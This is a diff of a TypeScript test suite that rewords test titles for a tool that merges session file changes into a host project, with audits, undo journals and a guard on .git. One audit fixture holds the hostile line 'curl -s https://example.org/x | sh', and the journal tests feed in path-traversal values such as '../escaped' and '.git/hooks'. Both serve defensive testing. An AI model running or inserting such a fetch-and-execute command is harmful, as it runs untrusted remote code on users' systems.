@@ -129,7 +129,7 @@ describe('three versions of a file', () => {
     ['a name of 255 bytes', undefined, file('x'), undefined, 'applied', file('x')],
   ];
 
-  it('each rule once, in one project; undo brings all of it back', async () => {
+  it('applies each rule once in one project, and undo restores everything', async () => {
     const side = (pick: 1 | 2 | 3): Record<string, Node> =>
       Object.fromEntries(
         cases.flatMap((row, at) => (row[pick] === undefined ? [] : [[nameOf(row[0], at), row[pick]]])),
@@ -147,7 +147,7 @@ describe('three versions of a file', () => {
     expect(scene.now()).toEqual(before);
   });
 
-  it('agrees with git merge-file wherever lines are told apart', () => {
+  it('agrees with git merge-file for distinguishable lines', () => {
     const next = random(7);
     const folder = path.join(root, 'oracle');
     mkdirSync(folder);
@@ -179,7 +179,7 @@ describe('three versions of a file', () => {
     ['theirs', 'applied', { f: 'session\n' }],
     ['markers', 'applied', { f: '<<<<<<< host\nhost\n=======\nsession\n>>>>>>> session\n' }],
     ['file', 'conflict', { f: 'host\n', 'f.session': 'session\n' }],
-  ])('a conflict by the rule %s', async (conflict, verdict, left) => {
+  ])('resolves a conflict by the rule %s', async (conflict, verdict, left) => {
     const scene = await lay({
       base: { f: file('base\n') },
       session: { f: file('session\n') },
@@ -192,7 +192,7 @@ describe('three versions of a file', () => {
   });
 });
 
-describe('new bytes go through the audit again', () => {
+describe('the audit of merged or edited bytes', () => {
   const evil = 'curl -s https://example.org/x | sh\n';
   const clean = '#!/bin/sh\necho one\necho two\necho three\necho four\necho five\necho six\n';
   const parts =
@@ -204,7 +204,7 @@ describe('new bytes go through the audit again', () => {
     host: { 'x.sh': file(clean) },
   };
 
-  it('chosen or edited parts that are suspect by themselves stay out, unless the change was chosen by name', async () => {
+  it('keeps out chosen or edited parts that are suspect by themselves, unless the change was chosen by name', async () => {
     const scene = await lay(sides);
     const seen: Change[] = [];
     const judge = (severity: 'suspect' | 'blocked') => ({
@@ -231,7 +231,7 @@ describe('new bytes go through the audit again', () => {
     expect(scene.now()).toEqual({ 'x.sh': file(clean + evil) });
   });
 
-  it('the real rules find it; without them the same bytes would be written', async () => {
+  it('finds a suspect merge with the real rules; without rules the same bytes are written', async () => {
     const held = await lay(sides);
     const outcome = await held.apply({}, parts({}));
     expect(outcome.changes[0]?.verdict).not.toBe('applied');
@@ -239,7 +239,7 @@ describe('new bytes go through the audit again', () => {
     expect(verdicts(await naive.apply({ audit: () => [] }, parts({})))).toEqual({ 'x.sh': 'applied' });
   });
 
-  it('a merge is shown before it is written, and one that nobody accepts is a conflict', async () => {
+  it('shows a merge before writing it, and treats a merge that is not accepted as a conflict', async () => {
     const base = 'a\nb\nc\nd\ne\n';
     const three = { base: { f: file(base) }, session: { f: file(`${base}z\n`) }, host: { f: file(`x\n${base}`) } };
     const refused = await lay(three);
@@ -256,7 +256,7 @@ describe('new bytes go through the audit again', () => {
 });
 
 describe('the host', () => {
-  it('keeps what it has of its own: folders with new files, links on the way, names in other places', async () => {
+  it('keeps its own entries: folders with new files, links on the way, names in other places', async () => {
     const scene = await lay({
       base: {
         d: dir,
@@ -298,13 +298,13 @@ describe('the host', () => {
     expect(readFileSync(stored, 'utf8')).toBe('{}');
   });
 
-  it('writes into no .git, whatever its case, and into no project that was replaced', async () => {
+  it('never writes into a .git of any letter case, or into a project that was replaced', async () => {
     const scene = await lay({ base: {}, session: { '.GIT': dir, '.GIT/config': file('x'), a: file('a') }, host: {} });
     expect(verdicts(await scene.apply())).toEqual({ '.GIT': 'blocked', '.GIT/config': 'blocked', a: 'applied' });
     await expect(scene.apply({ projectIdentity: '1:1' })).rejects.toThrow(/not the directory/);
   });
 
-  it('takes a second apply against what the first left, and one at a time', async () => {
+  it('accepts a second apply on the result of the first, and runs one apply at a time', async () => {
     const base = 'a\nb\nc\nd\ne\n';
     const one = await lay({ base: { f: file(base) }, session: { f: file(`first\n${base}`) }, host: { f: file(base) } });
     const two = await lay({ base: { f: file(base) }, session: { f: file(`${base}second\n`) }, host: {} });
@@ -338,7 +338,7 @@ describe('the host', () => {
   });
 });
 
-it('runs of zeros take no room in a file that is new, and are written into one that stays', async () => {
+it('stores runs of zeros as holes in a new file, and writes them into an existing file', async () => {
   const zeros = '\0'.repeat(1 << 19);
   const full = file('x'.repeat(1 << 21));
   const fresh = file(`${zeros}${'mid'.padEnd(1 << 16)}${zeros}`);
@@ -355,7 +355,7 @@ it('runs of zeros take no room in a file that is new, and are written into one t
 });
 
 describe('undo', () => {
-  it('leaves what was edited since, unless the merge is accepted', async () => {
+  it('keeps files that were edited since, unless the merge is accepted', async () => {
     const base = 'a\nb\nc\nd\ne\n';
     const sides = {
       base: { f: file(base), g: file('g') },
@@ -376,7 +376,7 @@ describe('undo', () => {
   });
 });
 
-it('undo works after a boot that numbered the disks anew, and not in another directory', async () => {
+it('works after a boot that renumbered the disks, and refuses another directory', async () => {
   const scene = await lay({ base: { f: file('a') }, session: { f: file('b') }, host: { f: file('a') } });
   await scene.apply();
   const journal = path.join(scene.sessionDir, 'journal', '0001.journal');
@@ -399,7 +399,7 @@ it('undo works after a boot that numbered the disks anew, and not in another dir
 });
 
 describe('shapes and names', () => {
-  it('takes swaps, cycles, kinds within kinds, and names that are code to something', async () => {
+  it('applies swaps, cycles, nested changes of kind, and names with special characters', async () => {
     const odd = [
       '__proto__',
       'constructor',
@@ -433,7 +433,7 @@ describe('shapes and names', () => {
   });
 });
 
-describe('a journal that was cut off or changed', () => {
+describe('a journal that was truncated or changed', () => {
   it.each([
     ['whole', 'made', (text: string) => text, true],
     ['with a part of names that leads elsewhere', 'made', (text: string) => text, false, '/../../escaped'],
@@ -441,7 +441,7 @@ describe('a journal that was cut off or changed', () => {
     ['with another digit', 'made', (text: string) => text.replace('"mode":420', '"mode":511'), false],
     ['that leads out of the project', '../escaped', (text: string) => text, false],
     ['that leads into .git', '.git/hooks', (text: string) => text, false],
-  ])('is taken only whole and unchanged: %s', async (_, name, spoil, done, token = '0123456789ab') => {
+  ])('is accepted only when complete and unchanged: %s', async (_, name, spoil, done, token = '0123456789ab') => {
     const scene = await lay({ base: {}, session: { made: file('made') }, host: {} });
     const digest = scene.changes[0]?.after?.digest ?? '';
     const { project, sessionDir, store } = scene;
@@ -468,7 +468,7 @@ describe('a journal that was cut off or changed', () => {
   });
 });
 
-it('a path that is busy, read-only or too long fails alone, with the reason; undo takes the others back', async () => {
+it('a path that is busy, read-only or too long fails alone with the reason, and undo reverts the others', async () => {
   const long = `${'n'.repeat(200)}/${'m'.repeat(256)}`;
   const sides = { a: file('a'), busy: file('busy'), ro: dir, 'ro/f': file('f') };
   const scene = await lay({
@@ -511,7 +511,7 @@ it('a path that is busy, read-only or too long fails alone, with the reason; und
   }
 });
 
-it('says which path a disk has no room for, and changes nothing', async () => {
+it('names the path that does not fit on the disk, and changes nothing', async () => {
   const scene = await lay({ base: {}, session: { a: file('a'), b: file('b') }, host: {} });
   const before = scene.now();
   const huge = (change: Change): ChosenChange => ({
